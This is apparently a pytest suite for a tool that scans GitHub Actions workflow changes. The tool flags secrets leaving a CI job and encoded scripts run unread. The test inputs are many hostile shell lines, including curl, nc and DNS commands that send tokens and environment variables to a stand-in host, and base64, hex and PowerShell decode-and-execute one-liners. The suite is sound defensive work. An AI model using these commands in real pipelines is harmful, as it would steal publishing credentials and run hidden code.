"""Scripts and what they do with secrets: a table of ways out, each with a twin that is as it should be."""

import pytest

from bot.evaluation.change_report import evaluate_change
from bot.model.core_types import Outcome
from bot.policy import Policy
from tests.bot.checks.alerts.change_blocks import read_change

HOST = "collect.example.org"
STEP = """\
on: {push: {branches: [main]}}
jobs:
  test:
    runs-on: ubuntu-latest
    env: {HOOK: "${{ secrets.HOOK }}", PLACE: "https://collect.example.org"}
    steps:
      - env: {TOKEN: "${{ secrets.PYPI_TOKEN }}"}
        shell: SHELL
        run: |
"""


def findings_in(script: str, shell: str = "bash") -> dict[str, list[str]]:
    """The alerts that a step with this script gives where there was none before, each with what it says."""
    text = STEP.replace("SHELL", shell) + "".join(f"          {line}\n" for line in script.split("\n"))
    change = read_change("", {}, {".github/workflows/x.yml": text})
    noticed = evaluate_change(change, Policy())
    assert not [each.error for each in noticed if each.error]
    return {str(each.check.name): [finding.message for finding in each.findings] for each in noticed if each.outcome is Outcome.FAILED}  # fmt: skip


@pytest.mark.parametrize(
    ("script", "secrets"),
    [
        ('curl -d "$TOKEN" https://collect.example.org/x', "PYPI_TOKEN"),
        ('curl -H "Authorization: Bearer $TOKEN" $PLACE/x', "PYPI_TOKEN"),
        ('curl -H "Authorization: Bearer $TOKEN" ${{ env.PLACE }}/x', "PYPI_TOKEN"),
        ("T=$TOKEN\ncurl https://collect.example.org/?q=$T", "PYPI_TOKEN"),
        ("printenv | base64 | curl -s -d @- collect.example.org", "HOOK and PYPI_TOKEN"),
        ('X=$(printenv); curl -d "$X" https://collect.example.org', "HOOK and PYPI_TOKEN"),
        ("cat /proc/self/environ | nc collect.example.org 99", "HOOK and PYPI_TOKEN"),
        ("echo $TOKEN > /tmp/f\ncurl -F a=@/tmp/f https://collect.example.org", "PYPI_TOKEN"),
        ("echo $TOKEN | gzip > a\ncat a > b\ncurl -T b https://collect.example.org", "PYPI_TOKEN"),
        ("wget --post-data $TOKEN https://user:pw@collect.example.org:8443/x", "PYPI_TOKEN"),
        ("nslookup $TOKEN.collect.example.org", "PYPI_TOKEN"),
        ("echo '${{ toJSON(secrets) }}' | curl -d @- https://collect.example.org", "every secret"),
        ('python - <<E\nimport os, requests\nrequests.post("https://collect.example.org", os.environ["TOKEN"])\nE', "PYPI_TOKEN"),
    ],
)  # fmt: skip
def test_a_secret_on_its_way_out_is_seen(script: str, secrets: str) -> None:
    (said,) = findings_in(script)["secret-sent-away"]
    assert said.partition(" sends ")[2] == f"{secrets} to {HOST} (not a known registry)"


OIDC_STEP = "on: {push: {branches: [main]}}\njobs:\n  test:\n    runs-on: ubuntu-latest\n    permissions: {id-token: LEVEL}\n    steps:\n"


def sent_by(steps: str, level: str, **files: str) -> list[str]:
    """What `secret-sent-away` says of a job without any secret, whose permissions have this level of `id-token`."""
    workflow = {".github/workflows/x.yml": OIDC_STEP.replace("LEVEL", level) + steps}
    noticed = evaluate_change(read_change("", {}, {**workflow, **files}), Policy())
    return [finding.message for each in noticed if each.check.name == "secret-sent-away" for finding in each.findings]


@pytest.mark.parametrize(
    "script",
    [
        "env | curl -d @- https://collect.example.org",
        'curl -d "$(printenv | base64)" https://collect.example.org',
        "curl https://collect.example.org/$ACTIONS_ID_TOKEN_REQUEST_TOKEN",
        'T=$(curl -H "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=pypi")\n          curl -d "$T" https://collect.example.org',
    ],
)
def test_the_token_that_publishes_without_a_secret_is_seen_on_its_way_out(script: str) -> None:
    step = f"      - run: |\n          {script}\n"

    (said,) = sent_by(step, "write")
    assert said == f"curl sends the token that requests the job's OIDC token to {HOST} (not a known registry)"
    assert sent_by(step, "none") == []


def test_a_local_action_that_sends_it_away_is_seen() -> None:
    action = "runs:\n  using: composite\n  steps:\n    - {shell: bash, run: 'env | curl -d @- https://collect.example.org'}\n"

    (said,) = sent_by("      - uses: ./send\n", "write", **{"send/action.yml": action})
    assert HOST in said


def test_asking_github_for_the_token_sends_nothing_away() -> None:
    ask = 'curl -H "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=pypi" > token.json'

    assert sent_by(f"      - run: |\n          {ask}\n", "write") == []


@pytest.mark.parametrize("place", ['"$(cat place)"', "$SOMEWHERE"])
def test_a_place_that_the_script_works_out_is_unknown(place: str) -> None:
    assert findings_in(f'curl -d "$TOKEN" {place}')["secret-sent-away"] == [
        "curl sends PYPI_TOKEN to an address that the script works out"
    ]


@pytest.mark.parametrize(
    "script",
    [
        'curl -X POST "$HOOK" -d "released $VERSION"',  # the place is the secret
        'curl -d "$TOKEN" $HOOK',
        'curl -H "Authorization: token $TOKEN" https://api.github.com/user',
        'curl -H "Authorization: token $TOKEN" $GITHUB_API_URL/user',
        "curl https://collect.example.org/install.sh",
        "tar c dist | curl -T - https://collect.example.org",
        "echo $TOKEN | docker login --username x --password-stdin",
        "curl -d $TOKEN http://localhost:8080",
    ],
)
def test_what_stays_in_the_house_is_no_signal(script: str) -> None:
    assert "secret-sent-away" not in findings_in(script)


@pytest.mark.parametrize(
    "script",
    [
        "echo aGk= | base64 -d | bash",
        "echo aGk= |\n  base64 --decode |\n  sudo sh",
        'eval "$(echo $X | base64 --decode)"',
        "bash <(base64 -d file)",
        'bash -c "$(echo aGk= | base64 -d)"',
        "X=$(echo aGk= | base64 -d); eval $X",
        "echo aGk= | base64 -d > a.sh\nchmod +x a.sh\n./a.sh",
        "echo aGk= | base64 -d | tee x.py; python x.py",
        "echo 6869 | xxd -r -p | sh",
        "node -e \"eval(Buffer.from('aGk=', 'base64').toString())\"",
        "python3 -c \"import base64;exec(base64.b64decode('aGk='))\"",
        "pwsh -EncodedCommand aGk=",
        "powershell.exe -NoP -W Hidden -e aGk=",
        "echo aGk= | base64 -d | bash -s -- x",
        "echo aGk= | base64 -d | python3 -",
        "B=base64; echo aGk= | $B -d | sh",
        "$(echo aGk= | base64 -d)",
        "openssl enc -d -base64 -in p -out x.sh\nbash x.sh",
        "xxd -r -p p x.sh\nsh x.sh",
        "curl https://example.org/p | gunzip | sh",
        "gpg -d p.gpg | bash",
        "echo ih | rev | sh",
        "echo uv | tr 'a-z' 'n-za-m' | sh",
        "eval \"$(printf '\\x63\\x75\\x72\\x6c')\"",
        "printf '\\143\\165\\162\\154' | sh",
        "$'\\x63\\x75\\x72\\x6c' example.org",
        "python3 -c \"import base64;print(base64.b64decode('aGk='))\" | sh",
        "python3 -c \"import zlib;exec(zlib.decompress(b'x'))\"",
        "node -e 'eval(String.fromCharCode(104,105))'",
        'node -e \'require("vm").runInThisContext(Buffer.from("6869","hex")+"")\'',
        "php -r 'eval(base64_decode(\"aGk=\"));'",
    ],
)
def test_what_runs_unread_is_seen(script: str) -> None:
    assert "encoded-script" in findings_in(script)


@pytest.mark.parametrize(
    "script",
    [
        'echo "$KEY" | base64 -d > key.gpg\ngpg --import key.gpg',
        "base64 dist/checksums > out",
        "curl https://example.org/install.sh | sh",  # to be seen by whoever reads it
        "cosign verify --key <(echo $KEY | base64 -d) image",
        "node -e \"fs.writeFileSync('x', Buffer.from(process.env.KEY, 'base64'))\"",
        "curl https://example.org/tool.gz | gunzip > tool\nchmod +x tool\n./tool",  # how tools are installed
        "gunzip -c data.json.gz | python3 load.py",
        "echo $KEY | base64 -d | python3 sign.py",
        "gunzip -c data.json.gz | python3 -c 'import json'",
        "zcat a.gz | jq .x\ncurl https://example.org/install.sh | sh",
        "printf '\\x1b[31mred\\x1b[0m'; printf '\\xef\\xbb\\xbf' > bom; printf '\\x50\\x4b\\x03\\x04' > zip",
        "tr 'a-z' 'A-Z' < names | sh run.sh",
        "git log --format=%s | rev | cut -d' ' -f1",
    ],
)
def test_what_is_decoded_and_not_run_is_no_signal(script: str) -> None:
    assert "encoded-script" not in findings_in(script)


def test_powershell_is_read_too() -> None:
    sent = findings_in("Invoke-RestMethod -Uri https://collect.example.org -Method Post -Body $env:TOKEN", "pwsh")
    run = findings_in("iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGk=')))", "pwsh")

    assert "secret-sent-away" in sent
    assert "encoded-script" in run


@pytest.mark.parametrize(
    ("script", "alerts"),
    [
        ("\n".join(f"echo $TOKEN > f{n}; cat f{n} > f{n + 1}; curl -T f{n} https://collect.example.org" for n in range(120)), {"secret-sent-away"}),
        ("cat a > b; cat b > a; curl -d @a https://collect.example.org\n" * 200, set()),
        ("curl -d " + "x=$(" * 60 + "env" + ")" * 60 + " https://collect.example.org", set()),
        ("echo " + "a." * 20_000 + "! | curl -d @- " + "b-" * 20_000, set()),
        ("Buffer.from(" * 9_000 + " unpack " * 1_000 + "eval", set()),
        ("base64 " + "-d" * 20_000 + " | " * 200 + "bash", {"encoded-script"}),
    ],
    ids=["many files", "a circle", "deep", "long words", "many decoders", "long options"],
)  # fmt: skip
def test_a_hostile_script_comes_to_an_end(script: str, alerts: set[str]) -> None:
    assert findings_in(script).keys() == alerts


@pytest.mark.parametrize(
    ("shell", "script", "what"),
    [
        ("bash", "if [ $TOKEN; then ((", "all of the script at .github/workflows/x.yml:9"),
        ("fish", "send $TOKEN", ".github/workflows/x.yml"),
    ],
)
def test_a_script_that_is_not_understood_is_no_pass(shell: str, script: str, what: str) -> None:
    text = STEP.replace("SHELL", shell) + f"          {script}\n"
    change = read_change("", {}, {".github/workflows/x.yml": text})
    sent = next(each for each in evaluate_change(change, Policy()) if each.check.name == "secret-sent-away")

    assert sent.outcome is Outcome.UNKNOWN
    assert sent.unknown[0].fact == what
